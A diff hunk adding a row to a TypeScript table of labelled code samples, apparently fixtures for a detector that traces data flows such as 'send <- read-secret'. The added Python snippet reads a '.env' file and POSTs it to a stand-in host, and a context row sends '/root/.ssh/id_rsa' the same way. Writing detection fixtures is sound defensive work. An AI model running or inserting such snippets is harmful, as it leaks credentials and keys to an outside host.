@@ -72,6 +72,12 @@ const FLOWING: readonly Row[] = [
     "evaluate <- download",
   ],
   [
+    "an instance of a class",
+    "python",
+    "import requests\nclass A:\n  def __init__(self, u):\n    self.u = u\n  def up(self, d):\n    requests.post(self.u, data=d)\na = A('https://a.test')\na.up(open('.env').read())",
+    "send <- read-secret",
+  ],
+  [
     "a key through a promise",
     "javascript",
     "const fs = require('node:fs');\nconst k = fs.readFileSync('/root/.ssh/id_rsa');\nfetch('https://a.test', { method: 'POST', body: JSON.stringify({ k }) });",
